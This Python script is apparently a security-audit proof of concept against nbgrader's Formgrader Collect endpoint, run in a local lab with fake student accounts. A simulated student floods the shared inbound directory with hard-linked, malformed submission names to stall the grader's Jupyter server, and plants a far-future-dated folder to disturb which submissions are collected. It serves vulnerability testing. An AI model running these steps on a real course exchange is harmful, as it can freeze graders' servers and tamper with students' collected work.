"""a04: a02 and a03 through Formgrader's Collect button (POST /formgrader/api/assignment/<a>/collect: SafeCollect,
update=True, inside the TA's Jupyter server as `make lab` starts it; the TA is uid 65534).
Press 1: mallory's N hard-linked names in inbound (a03); a client asks /api/status meanwhile: is the server frozen?
Press 2: mallory adds her `9999-12-31 23:59:59.999999 UTC` folder (a02) and a late hand-in of nina's arrives: what
does the button answer, who is collected? Controls: aaron, bob, nina, zoe (honest)."""
import os, sys, threading, urllib.request, datetime
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from lib import *
A = "ps1_memory"; N = int(sys.argv[1]) if len(sys.argv) > 1 else 100000; PORT = 18461
add_accounts()
d = make_course("a04")
X, inbound = make_exchange("a04"); os.chmod(inbound, 0o2733)
cfg = "/tmp/attack40-user-a04-jcfg"; os.makedirs(cfg, exist_ok=True)
open(f"{cfg}/nbgrader_config.py", "w").write(f"c = get_config()\nc.Exchange.root = {X!r}\n")
home = "/tmp/attack40-user-a04-home"; os.makedirs(home, exist_ok=True)
for p in (d, cfg, home): chown(p)
os.chmod(d, 0o700)
lab = None
tmp = "/tmp/attack40-user-a04-h.ipynb"
try:
    now = datetime.datetime.utcnow(); ts = now.strftime("%Y-%m-%d %H:%M:%S.%f UTC")
    nbformat.write(honest(A), tmp); os.chmod(tmp, 0o644)
    for uid, s in ((2401, "aaron40u"), (2404, "bob40u"), (2402, "mallory40u"), (2405, "nina40u"), (2403, "zoe40u")):
        as_student(uid, f"import os,shutil; os.umask(0o022); p='{inbound}/{s}+{A}+{ts}+Q{s}'; os.mkdir(p); shutil.copy('{tmp}', p+'/{A}.ipynb')")
    as_student(2402, f"""
import os
ib = {inbound!r}; bad = ' '.join(['1'] * 100)
for i in range({N}):
    if i % 60000 == 0:
        f = ib + f'/m-anchor{{i}}'; open(f, 'w').close()
    os.link(f, ib + f'/mallory40u+{A}+{{bad}}+{{i}}')
print('mallory made {N} names')
""")
    env = dict(ENV, DISTCOURSE_JUDGE="kernel", PYTHONSAFEPATH="1", PATH=CLONE + "/.venv/bin:" + ENV["PATH"], HOME=home, JUPYTER_CONFIG_DIR=cfg)
    lab = subprocess.Popen(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", CLONE + "/.venv/bin/jupyter", "lab",
                            "--notebook-dir=.", "--no-browser", f"--port={PORT}", "--ServerApp.token=tok40"],
                           cwd=d, env=env, stdout=open("/tmp/attack40-user-a04-lab.log", "w"), stderr=subprocess.STDOUT)
    for _ in range(90):
        try:
            urllib.request.urlopen(f"http://127.0.0.1:{PORT}/api/status?token=tok40", timeout=2); break
        except Exception:
            time.sleep(1)
    def press():
        req = urllib.request.Request(f"http://127.0.0.1:{PORT}/formgrader/api/assignment/{A}/collect", data=b"{}", method="POST",
                                     headers={"Authorization": "token tok40", "Content-Type": "application/json"})
        t = time.time(); out = urllib.request.urlopen(req, timeout=3000).read().decode()
        return time.time() - t, out
    def pressed_with_poll():
        waits, done = [], []
        def poll():
            time.sleep(0.5)
            while not done:
                t = time.time()
                try: urllib.request.urlopen(f"http://127.0.0.1:{PORT}/api/status?token=tok40", timeout=600).read()
                except Exception as e: print("poll error", e)
                waits.append(time.time() - t); time.sleep(1)
        th = threading.Thread(target=poll); th.start()
        t, out = press(); done.append(1); th.join()
        return t, out, waits
    t, out, waits = pressed_with_poll()
    print(f"PRESS 1 (N={N} names): {t:.1f}s; answer {len(out):,} bytes:", out[:400].replace("\\n", " "))
    print(f"  /api/status during it: {len(waits)} answers, longest wait {max(waits):.1f}s")
    print("  collected:", sorted(os.listdir(f"{d}/submitted")))
    # press 2: the 9999 folder and a late hand-in of nina's
    as_student(2402, f"import os,shutil; os.umask(0o022); p='{inbound}/mallory40u+{A}+9999-12-31 23:59:59.999999 UTC+max'; os.mkdir(p); shutil.copy('{tmp}', p+'/{A}.ipynb')")
    late = (now + datetime.timedelta(seconds=1)).strftime("%Y-%m-%d %H:%M:%S.%f UTC")
    as_student(2405, f"import os,shutil; os.umask(0o022); p='{inbound}/nina40u+{A}+{late}+late'; os.mkdir(p); shutil.copy('{tmp}', p+'/{A}.ipynb')")
    t, out, waits = pressed_with_poll()
    print(f"PRESS 2 (+ her 9999 folder, nina's late hand-in): {t:.1f}s; answer:", out[:1500].replace("\\n", " "))
    print("  collected:", {s: os.listdir(f"{d}/submitted/{s}") for s in sorted(os.listdir(f"{d}/submitted"))})
    print("  nina's timestamp:", open(f"{d}/submitted/nina40u/{A}/timestamp.txt").read() if os.path.exists(f"{d}/submitted/nina40u/{A}/timestamp.txt") else None, "(her late one is", late, ")")
finally:
    if lab: lab.terminate(); lab.wait(20)
    shutil.rmtree(X, ignore_errors=True)
    for p in (cfg, home): shutil.rmtree(p, ignore_errors=True)
    for f in (tmp, "/tmp/attack40-user-a04-lab.log"):
        if os.path.exists(f): os.unlink(f)
    del_accounts()
